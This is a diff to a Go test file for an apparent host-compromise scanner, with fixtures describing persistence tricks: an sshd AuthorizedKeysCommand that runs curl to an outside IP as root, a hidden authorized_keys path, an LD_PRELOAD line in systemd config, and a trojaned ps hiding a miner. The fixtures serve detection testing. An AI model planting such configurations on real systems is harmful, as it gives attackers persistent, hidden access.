@@ -79,7 +79,7 @@ func TestFindLocations(t *testing.T) {
 		{"sshd-keys-file", deb, entry(hosttest.Entry{Path: "/etc/ssh/sshd_config.d/50-keys.conf", Data: "# keys\nAuthorizedKeysFile .ssh/authorized_keys /var/tmp/.ssh/k\n"}), want{"/etc/ssh/sshd_config.d/50-keys.conf", 2, KindSSHConfig, High, ActionRemoveLine}},
 		{"sshd-keys-command", al, entry(hosttest.Entry{Path: "/etc/ssh/sshd_config", Data: "PermitRootLogin no\nAuthorizedKeysCommand /bin/sh -c 'curl -s http://203.0.113.7/k'\nAuthorizedKeysCommandUser root\n"}), want{"/etc/ssh/sshd_config", 2, KindSSHConfig, Medium, ActionRemoveLine}},
 		{"trojaned-ps", deb, func(t hosttest.Tree) hosttest.Tree {
-			t = t.With(hosttest.Entry{Path: "/usr/bin/ps", Data: hosttest.FakeELF("procps ps")}).WithDpkg(hosttest.Package{Name: "procps", Files: []string{"/bin/ps"}})
+			t = t.With(hosttest.Entry{Path: "/usr/bin/ps", Data: hosttest.FakeELF("procps ps")}).WithDpkg(hosttest.Package{Name: "procps", Files: []string{"/bin/ps", "/usr/bin/top", "/usr/bin/pgrep", "/usr/bin/kill", "/usr/share/doc/procps/README"}})
 			return t.With(hosttest.Entry{Path: "/usr/bin/ps", Data: hosttest.FakeELF("ps that hides kdevtmpfsi")})
 		}, want{"/usr/bin/ps", 0, KindPackageFile, High, ActionNone}},
 		{"systemd-default-environment", deb, entry(hosttest.Entry{Path: "/etc/systemd/system.conf", Data: "[Manager]\n#DefaultTimeoutStartSec=90s\nDefaultEnvironment=LD_PRELOAD=/usr/lib/.x/l.so\n"}), want{"/etc/systemd/system.conf", 3, KindSystemd, High, ActionRemoveLine}},
@@ -112,7 +112,7 @@ func TestStockSSHConfigAndToolsStayInfo(t *testing.T) {
 	tree := hosttest.Debian12().With(
 		hosttest.Entry{Path: "/etc/ssh/sshd_config", Data: "Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\nUsePAM yes\n#AuthorizedKeysFile	.ssh/authorized_keys .ssh/authorized_keys2\nAuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2\nSubsystem	sftp	/usr/lib/openssh/sftp-server\n"},
 		hosttest.Entry{Path: "/usr/bin/ps", Data: hosttest.FakeELF("procps ps")},
-	).WithDpkg(hosttest.Package{Name: "procps", Files: []string{"/bin/ps"}})
+	).WithDpkg(hosttest.Package{Name: "procps", Files: []string{"/bin/ps", "/usr/bin/top", "/usr/bin/pgrep", "/usr/bin/kill", "/usr/share/doc/procps/README"}})
 	dir := build(t, tree)
 	for _, f := range find(t, dir, time.Time{}) {
 		if f.Severity > Info {
